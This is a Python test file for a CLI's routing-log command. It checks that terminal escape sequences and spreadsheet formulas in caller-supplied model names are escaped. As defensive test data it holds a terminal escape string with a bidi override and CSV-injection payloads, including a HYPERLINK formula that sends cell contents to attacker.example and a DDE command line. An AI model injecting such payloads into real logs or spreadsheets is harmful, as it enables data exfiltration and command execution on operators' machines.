"""What `hubpool log` prints is shown, never obeyed (issue 26, item 7): any caller inside the
pool chooses the model names the routing log records, so a terminal escape sequence in one
must reach the operator's terminal escaped, and `--csv` must not hand a spreadsheet a formula.
Through a running node, a simulated engine and the real CLI in its own process."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import httpx
from harness import RunningNode, wait_until

from hubpool_core.cli.format import csv_cell, printable

P = "/api/inference/pool"
#: clears the screen, sets the window title, paints red, then a bidi override ("Trojan Source")
ESCAPES = "evil\x1b[2J\x1b]0;pwned\x07\x1b[31mRED\x1b[0m\u202eabc\x9b1m"
FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]


def _cli(node: RunningNode, *args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("HUB_POOL_")}
    env.update({"HUB_POOL_DATA_DIR": str(node.env.data_dir), "HUB_POOL_LISTEN": f"127.0.0.1:{node.port}",
                "COLUMNS": "400"})
    return subprocess.run([sys.executable, "-m", "hubpool_core.cli", *args], capture_output=True, text=True,
                          env=env, timeout=60, stdin=subprocess.DEVNULL)


def test_model_names_reach_the_terminal_escaped_and_csv_cells_never_as_formulas(tmp_path, ollama_sim):
    with RunningNode(tmp_path / "n", {"OLLAMA_URL": ollama_sim.url}) as node:
        for model in (ESCAPES, *FORMULAS):
            r = httpx.post(node.url + "/v1/chat/completions", timeout=30, trust_env=False,
                           json={"model": model, "messages": [{"role": "user", "content": "hi"}]})
            assert r.status_code >= 400  # no node serves such a model; the row keeps its name
        with node.client(headers=node.headers()) as c:
            def logged() -> set[str]:
                return {e["model"] for e in c.get(P + "/routing-log").json()["entries"] if e["totalMs"] is not None}
            assert wait_until(lambda: {ESCAPES, *FORMULAS} <= logged())

        text = _cli(node, "log")
        assert text.returncode == 0, text.stderr
        assert "\x1b" not in text.stdout and "\x07" not in text.stdout and "\x9b" not in text.stdout
        assert "\u202e" not in text.stdout
        assert "evil\\x1b[2J\\x1b]0;pwned\\x07\\x1b[31mRED\\x1b[0m\\u202eabc\\x9b1m" in text.stdout, text.stdout

        raw = _cli(node, "log", "--csv")
        assert raw.returncode == 0, raw.stderr
        assert "\x1b" not in raw.stdout
        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(raw.stdout))}
        models = {r["model"] for r in rows.values()}
        for formula in FORMULAS:
            assert "'" + formula in models, (formula, models)
        for row in rows.values():
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@")), row

        # --json is for programs: the names come back exactly (JSON escapes the controls itself)
        js = _cli(node, "log", "--json")
        assert js.returncode == 0 and "\x1b" not in js.stdout
        assert ESCAPES in {e["model"] for e in json.loads(js.stdout)["entries"]}


def test_printable_and_csv_cell_leave_ordinary_text_alone():
    for text in ("llama3.2:3b", "qwen3:30b-a3b", "hub-b.example-tailnet.ts.net", "café 模型", "a b"):
        assert printable(text) == text and csv_cell(text) == text
    assert csv_cell(42) == 42 and csv_cell("-") == "'-"
    assert printable("\n\t\x00\x7f\u2028") == "\\x0a\\x09\\x00\\x7f\\u2028"
